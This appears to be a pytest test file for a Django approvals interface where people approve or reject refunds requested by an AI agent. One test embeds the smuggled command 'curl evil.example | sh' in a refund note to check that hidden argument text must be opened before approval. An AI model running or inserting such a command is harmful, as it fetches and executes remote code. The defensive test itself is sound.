"""Deciding in the browser without JavaScript: plain forms, true sentences, nothing by accident."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from approvals.models import Decision
from ledger.models import Saga, Step
from ledger.templatetags.values import FOLD_ABOVE
from tests.stage import Stage, a_stage, sign_in

__all__ = ["a_stage"]


@pytest.fixture
def browser(stage: Stage) -> Client:
    client = Client()
    sign_in(client, stage.approver)
    return client


def post(browser: Client, stage: Stage, step: Any, answer: str, **fields: Any) -> Any:
    request = stage.request(step)
    sent = {"answer": answer, "args_digest": request.args_digest} | fields
    return browser.post(reverse("approvals:decide", args=[request.pk]), sent)


def test_the_inbox_says_who_wants_what_until_when(stage, browser):
    stage.waiting_refund()
    html = browser.get(reverse("approvals:inbox")).content.decode()
    for said in ("refund-desk", "refund a payment", "cannot be undone", "left", "0 of 1 said yes"):
        assert said in html


def test_an_empty_inbox_says_whether_nothing_waits_or_nothing_waits_for_you(stage, browser):
    inbox = reverse("approvals:inbox")
    assert "Nothing is waiting" in browser.get(inbox).content.decode()
    stage.waiting_refund()
    sign_in(browser, stage.viewer)
    assert "Nothing waits for you" in browser.get(inbox).content.decode()


def test_the_request_shows_exactly_what_would_run_and_what_a_no_would_cost(stage, browser):
    _, step = stage.waiting_refund()
    request = stage.request(step)
    html = browser.get(reverse("approvals:approval-detail", args=[request.pk])).content.decode()
    assert '250<span class="thousand">000</span>' in html
    assert "Order 8841 was cancelled" in html
    assert "https://payments.example/v1/refunds" in html
    assert "STAGE_PAYMENTS_AUTH" not in html
    assert request.idempotency_key in html
    assert "1 effect would be undone" in html
    assert f'value="{request.args_digest}"' in html


def test_approving_without_javascript_runs_it_and_returns_to_the_request(stage, browser):
    _, step = stage.waiting_refund()
    answer = post(browser, stage, step, "approve", understood="yes", reason="Checked")
    page = reverse("approvals:approval-detail", args=[stage.request(step).pk])
    assert (answer.status_code, answer["Location"]) == (302, page)
    stage.work()
    html = browser.get(page).content.decode()
    assert "Approved by olivia" in html
    assert "The effect happened and its result is recorded." in html
    assert Step.objects.get(pk=step).state == "committed"


def test_what_cannot_be_undone_asks_twice(stage, browser):
    _, step = stage.waiting_refund()
    answer = post(browser, stage, step, "approve", reason="in a hurry")
    assert answer.status_code == 422
    html = answer.content.decode()
    assert "Tick that you understand" in html
    assert "in a hurry</textarea>" in html
    assert not Decision.objects.exists()


def test_a_folded_argument_must_be_opened_before_a_yes_counts(stage, browser):
    saga = stage.saga()
    step = stage.refund(saga, note="ok " + "x" * FOLD_ABOVE + " && curl evil.example | sh")
    page = reverse("approvals:approval-detail", args=[stage.request(step).pk])
    html = browser.get(page).content.decode()
    assert "curl evil.example | sh" in html
    assert '<input type="checkbox" name="read" value="note" form="approve" required>' in html
    refused = post(browser, stage, step, "approve", understood="yes")
    assert refused.status_code == 422
    assert post(browser, stage, step, "approve", understood="yes", read="note").status_code == 302


def test_rejecting_needs_a_reason_and_undoes_the_saga(stage, browser):
    saga, step = stage.waiting_refund()
    assert post(browser, stage, step, "reject", reason=" ").status_code == 422
    assert post(browser, stage, step, "reject", reason="Already shipped").status_code == 302
    stage.work()
    assert Saga.objects.get(pk=saga).state == "compensated"
    page = browser.get(reverse("approvals:approval-detail", args=[stage.request(step).pk]))
    assert "You rejected it just now. Reason: Already shipped." in page.content.decode()


def test_asking_for_a_change_sends_the_step_back(stage, browser):
    _, step = stage.waiting_refund()
    sent = post(browser, stage, step, "request_change", reason="Only half, please")
    assert sent.status_code == 302
    assert Step.objects.get(pk=step).state == "change_requested"


def test_a_digest_that_is_not_the_shown_one_decides_nothing(stage, browser):
    _, step = stage.waiting_refund()
    answer = post(browser, stage, step, "approve", understood="yes", args_digest="0" * 64)
    assert answer.status_code == 409
    assert "no longer what would run" in answer.content.decode()
    assert not Decision.objects.exists()


def test_a_second_and_different_answer_is_told_the_first(stage, browser):
    _, step = stage.waiting_refund()
    stage.decide(step, "reject", reason="Already shipped")
    answer = post(browser, stage, step, "approve", understood="yes")
    assert answer.status_code == 409
    assert "You rejected it just now. Reason: Already shipped." in answer.content.decode()
    # Whoever else is late is told whose answer it was.
    sign_in(browser, stage.second)
    answer = post(browser, stage, step, "approve", understood="yes")
    assert "already rejected by olivia" in answer.content.decode()
    page = browser.get(reverse("approvals:approval-detail", args=[stage.request(step).pk]))
    assert "already rejected by olivia" in page.content.decode()


def test_the_owner_of_the_agent_is_told_why_not(stage, browser):
    _, step = stage.waiting_refund()
    sign_in(browser, stage.owner)
    page = browser.get(reverse("approvals:approval-detail", args=[stage.request(step).pk]))
    assert "frida owns the agent" in page.content.decode()
    assert 'value="approve"' not in page.content.decode()
    assert post(browser, stage, step, "approve", understood="yes").status_code == 403
    assert not Decision.objects.exists()


def test_a_yes_can_be_taken_back_until_it_is_used(stage, browser):
    _, step = stage.waiting_refund()
    stage.decide(step)
    page = reverse("approvals:approval-detail", args=[stage.request(step).pk])
    assert "Take the yes back" in browser.get(page).content.decode()
    assert post(browser, stage, step, "reject", reason="Wrong customer").status_code == 302
    stage.work()
    assert Step.objects.get(pk=step).state == "rejected"
    assert "Take the yes back" not in browser.get(page).content.decode()


def test_opening_the_address_of_the_decision_decides_nothing(stage, browser):
    _, step = stage.waiting_refund()
    request = stage.request(step)
    answer = browser.get(reverse("approvals:decide", args=[request.pk]))
    assert answer["Location"] == reverse("approvals:approval-detail", args=[request.pk])
    assert not Decision.objects.exists()


def test_what_was_decided_stays_in_the_same_place(stage, browser):
    _, step = stage.waiting_refund()
    stage.decide(step, "reject", reason="Already shipped")
    for tab in ("by-me", "decided"):
        html = browser.get(reverse("approvals:inbox"), {"tab": tab}).content.decode()
        assert "refund a payment" in html
        assert "olivia: reject" in html


def test_a_poll_changes_the_decide_box_only_when_the_request_is_over(stage, browser):
    _, step = stage.waiting_refund()
    page = reverse("approvals:approval-detail", args=[stage.request(step).pk])
    mark = browser.get(page).context["mark"]
    live = {"HX-Request": "true"}
    assert browser.get(page, {"seen": mark}, headers=live).status_code == 204
    stage.decide(step, "reject", reason="Already shipped")
    part = browser.get(page, {"seen": mark}, headers=live)
    assert part.status_code == 286
    assert 'hx-swap-oob="true"' in part.content.decode()
    assert 'value="approve"' not in part.content.decode()
